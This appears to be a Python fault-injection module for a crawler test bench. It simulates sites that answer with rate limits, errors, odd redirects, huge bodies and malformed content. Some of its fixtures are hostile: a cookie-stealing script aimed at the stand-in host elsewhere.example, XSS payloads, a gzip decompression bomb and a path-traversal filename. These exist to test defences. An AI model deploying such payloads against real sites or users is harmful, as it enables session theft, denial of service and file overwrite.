"""Faults on demand: what goes wrong at a site of the sample world, at which address, how often."""

from __future__ import annotations

import json
import re
import threading
import time
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, replace
from email.utils import formatdate
from enum import StrEnum
from fnmatch import fnmatchcase
from math import ceil

from fgbench.collect.sample.miniature import Answer, Request, redirect

HUGE = 2 * 2**30
"""Bytes of a huge body."""
MOVED = "/moved"
"""Before a path: the same page, where a redirect on the same host leads."""
ESCAPE = "../../../../tmp/"
"""What a hostile title starts with."""
_PIECE = bytes(2**16)
_BOMB_PIECES = 1024
"""Mebibytes that the packed body unpacks to."""
_NESTED = 10_000


class FaultKind(StrEnum):
    """What goes wrong. Each says what a request meets."""

    TOO_MANY = "too_many"
    """429 with Retry-After in seconds (``seconds``, rounded up)."""
    TOO_MANY_DATE = "too_many_date"
    """429 with Retry-After as a date, ``seconds`` from now."""
    TOO_MANY_BARE = "too_many_bare"
    """429 without Retry-After."""
    SERVER_ERROR = "server_error"
    """500."""
    UNAVAILABLE = "unavailable"
    """503; on /robots.txt, "not now"."""
    SILENT = "silent"
    """No answer, as long as the world lasts."""
    SLOW = "slow"
    """The answer, a byte every ``seconds``."""
    TRUNCATED = "truncated"
    """Half of the body that was announced."""
    WRONG_CHARSET = "wrong_charset"
    """Windows-1252 that says it is UTF-8."""
    MOVED = "moved"
    """A redirect to another address of the host, which has the page."""
    AWAY = "away"
    """A redirect to a host that is not the site's."""
    PRIVATE = "private"
    """A redirect to a private address."""
    LOOP = "loop"
    """A redirect to itself."""
    BANNED = "banned"
    """On /robots.txt: one that forbids everything."""
    HUGE = "huge"
    """A body of 2 GiB that says so."""
    HUGE_UNSTATED = "huge_unstated"
    """A body of 2 GiB that says nothing of its length."""
    BOMB = "bomb"
    """A gzip body of about 1 MiB that unpacks to 1 GiB."""
    HOSTILE = "hostile"
    """The page with scripts and 10,000 nested elements in its text."""
    TRAVERSAL = "traversal"
    """The page with ``../`` before its titles and in the name of its file."""


@dataclass(frozen=True, slots=True)
class SiteFault:
    """A fault of a site's answers to addresses (path and query) like ``path``, with * and ?.

    It strikes the first ``times`` requests, or all. The first fault of several that fits is it.
    """

    kind: FaultKind
    site: str
    path: str = "*"
    times: int | None = None
    seconds: float = 1.0


class FaultTable:
    """The faults of a world, and how often each has struck; any thread may use it."""

    def __init__(self, faults: Iterable[SiteFault]) -> None:
        self._faults = tuple(faults)
        self._left = [fault.times for fault in self._faults]
        self._lock = threading.Lock()

    def strike(self, site: str, target: str) -> SiteFault | None:
        """The fault that a request meets, if any; it has struck once more then."""
        with self._lock:
            for k, fault in enumerate(self._faults):
                left = self._left[k]
                spared = target.startswith(f"{MOVED}/") and fault.kind is FaultKind.MOVED
                fits = fault.site == site and fnmatchcase(target, fault.path)
                if left == 0 or spared or not fits:
                    continue
                if left is not None:
                    self._left[k] = left - 1
                return fault
        return None


def spoil(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    """What is answered instead of ``answer``. Not for SILENT, which answers nothing."""
    return _SPOILERS[fault.kind](fault, request, answer)


def _too_many(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    headers = {"Content-Type": "text/plain; charset=utf-8"}
    if fault.kind is FaultKind.TOO_MANY:
        headers["Retry-After"] = str(ceil(fault.seconds))
    if fault.kind is FaultKind.TOO_MANY_DATE:
        headers["Retry-After"] = formatdate(ceil(time.time() + fault.seconds), usegmt=True)
    return Answer(429, b"Too many requests\n", headers)


def _error(status: int) -> Callable[[SiteFault, Request, Answer], Answer]:
    def spoiler(fault: SiteFault, request: Request, answer: Answer) -> Answer:
        return Answer(status, b"Something went wrong\n", {"Content-Type": "text/plain"})

    return spoiler


def _leads_to(location: str) -> Callable[[SiteFault, Request, Answer], Answer]:
    """A redirect; ``{}`` stands for the request's own target."""

    def spoiler(fault: SiteFault, request: Request, answer: Answer) -> Answer:
        return redirect(location.replace("{}", request.target))

    return spoiler


def _slow(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    def drip(body: bytes) -> Iterator[bytes]:
        for k in range(len(body)):
            yield body[k : k + 1]
            time.sleep(fault.seconds)

    body = _whole(answer)
    return replace(answer, body=drip(body), length=len(body))


def _truncated(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    body = _whole(answer)
    return replace(answer, body=iter([body[: len(body) // 2]]), length=len(body))


def _wrong_charset(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    text = _whole(answer).decode("utf-8")
    return replace(answer, body=text.encode("windows-1252", "replace"))


def _banned(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    return replace(answer, status=200, body=b"User-agent: *\nDisallow: /\n")


def _huge(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    pieces = (_PIECE for _ in range(HUGE // len(_PIECE)))
    stated = HUGE if fault.kind is FaultKind.HUGE else None
    return replace(answer, body=pieces, length=stated)


def _bomb(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    """Made without unpacking: a block of packed zeros, flushed, is the same every time."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    zeros = bytes(2**20)
    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(_BOMB_PIECES):
        checksum = zlib.crc32(zeros, checksum)
    head = bytes((0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255))
    size = (_BOMB_PIECES * len(zeros)) % 2**32
    tail = packer.flush() + checksum.to_bytes(4, "little") + size.to_bytes(4, "little")
    headers = {**answer.headers, "Content-Encoding": "gzip"}
    return replace(answer, body=head + block * _BOMB_PIECES + tail, headers=headers)


def _hostile(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    block = (
        "<script>document.location='http://elsewhere.example/?'+document.cookie;</script>"
        '<img src="x" onerror="alert(1)"><iframe src="javascript:alert(2)"></iframe>'
        f"{'<div>' * _NESTED}{'</div>' * _NESTED}"
    )
    return _insert(answer, block, html="<body>", within_json=r'mw-parser-output\\"[^>]*>')


def _traversal(fault: SiteFault, request: Request, answer: Answer) -> Answer:
    named = f'attachment; filename="{ESCAPE}page.html"'
    answer = replace(answer, headers={**answer.headers, "Content-Disposition": named})
    return _insert(answer, ESCAPE, html="<title>|<h1[^>]*>", within_json='"title":"')


def _insert(answer: Answer, text: str, *, html: str, within_json: str) -> Answer:
    """The answer with a text after each match of a pattern, of its kind; escaped in JSON."""
    body = _whole(answer).decode("utf-8")
    if "json" in answer.headers.get("Content-Type", ""):
        html, text = within_json, json.dumps(text)[1:-1]
    return replace(answer, body=re.sub(html, lambda found: found[0] + text, body).encode())


def _whole(answer: Answer) -> bytes:
    return answer.body if isinstance(answer.body, bytes) else b"".join(answer.body)


_SPOILERS: Mapping[FaultKind, Callable[[SiteFault, Request, Answer], Answer]] = {
    FaultKind.TOO_MANY: _too_many,
    FaultKind.TOO_MANY_DATE: _too_many,
    FaultKind.TOO_MANY_BARE: _too_many,
    FaultKind.SERVER_ERROR: _error(500),
    FaultKind.UNAVAILABLE: _error(503),
    FaultKind.SLOW: _slow,
    FaultKind.TRUNCATED: _truncated,
    FaultKind.WRONG_CHARSET: _wrong_charset,
    FaultKind.MOVED: _leads_to(f"{MOVED}{{}}"),
    FaultKind.AWAY: _leads_to("http://elsewhere.example{}"),
    FaultKind.PRIVATE: _leads_to("http://10.11.12.13{}"),
    FaultKind.LOOP: _leads_to("{}"),
    FaultKind.BANNED: _banned,
    FaultKind.HUGE: _huge,
    FaultKind.HUGE_UNSTATED: _huge,
    FaultKind.BOMB: _bomb,
    FaultKind.HOSTILE: _hostile,
    FaultKind.TRAVERSAL: _traversal,
}
